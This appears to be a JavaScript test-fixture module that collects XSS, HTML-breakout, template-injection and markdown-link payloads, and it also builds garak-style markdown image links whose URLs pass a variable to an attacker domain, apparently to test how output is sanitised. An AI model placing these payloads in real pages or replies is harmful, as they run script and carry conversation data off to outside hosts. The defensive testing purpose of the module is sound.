// Words that want to be more than words: our own, and those of public collections where they lie beside the project.

import { existsSync, readFileSync } from "node:fs";
import { fileURLToPath } from "node:url";

const shared = fileURLToPath(new URL("../../../../shared/data", import.meta.url));

// Each would call alert(1) or fetch from evil.example, if something took it for more than words.
export const OWN = [
  "<script>alert(1)</script>", "</textarea></title></script><script>alert(1)</script>",
  "<img src=x onerror=alert(1)>", "<img src=https://evil.example/i.png>", "<svg onload=alert(1)><circle/></svg>",
  "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=https://evil.example/o></object>", "<embed src=https://evil.example/e>",
  "<link rel=stylesheet href=https://evil.example/s.css>", "<style>@import 'https://evil.example/s.css'</style>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "<base href=https://evil.example/>",
  "<form action=https://evil.example/><input name=q autofocus onfocus=alert(1)>", "<a href=javascript:alert(1)>read this</a>",
  "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>", "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "\" autofocus onfocus=alert(1) x=\"", "' onmouseover=alert(1) x='", "--><script>alert(1)</script><!--", "]]><script>alert(1)</script>",
  "[read this](javascript:alert(1))", "[read this](JaVaScRiPt:alert(1))", "[read this](data:text/html,<script>alert(1)</script>)",
  "[read this](vbscript:alert(1))", "![a picture](https://evil.example/p.png)", "![a picture](javascript:alert(1))",
  "[![a picture](https://evil.example/p.png)](https://evil.example/)", "<https://evil.example/\" onclick=alert(1)>", "[x]: javascript:alert(1)\n\n[x]",
  "`<img src=x onerror=alert(1)>`", "&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;img src=x onerror=alert(1)&#62;", "\\u003cimg src=x onerror=alert(1)\\u003e",
  "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "#{alert(1)}", "<%= alert(1) %>", "{{ self }}{% raw %}",
  "\u202e<script>alert(1)</script>", "<scr\0ipt>alert(1)</scr\0ipt>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<img/src=`x`onerror=alert(1)>",
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<template><script>alert(1)</script></template>", "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
];

// One text that breaks out of most places at once, short enough for every field.
export const POLYGLOT = "\"'`--></textarea></title></style></script><svg/onload=alert(1)><img src=https://evil.example/x>[a](javascript:alert(1))![](https://evil.example/y)";

// All rows, and which collections were left out as they are not there.
export function rows() {
  const naughty = `${shared}/naughty/blns.json`;
  const garak = `${shared}/injection/garak/xss`;
  const lines = (file) => readFileSync(`${garak}/${file}`, "utf8").split("\n").filter(Boolean);
  const absent = [naughty, garak].filter((path) => !existsSync(path));
  const found = [...OWN, POLYGLOT];
  if (existsSync(naughty)) found.push(...JSON.parse(readFileSync(naughty, "utf8")));
  if (existsSync(garak)) {
    // As the collection means them: a link or picture whose address carries off what was said.
    for (const domain of lines("xss_domains.txt")) for (const text of lines("xss_link_display_texts.txt"))
      for (const name of lines("xss_var_names.txt")) for (const marker of lines("xss_injection_markers.txt"))
        found.push(`![${text}](https://${domain}/?${name}=[${marker}])`, `[${text}](https://${domain}/?${name}=[${marker}])`);
  }
  return { rows: found.filter((row) => row.trim()), absent };
}
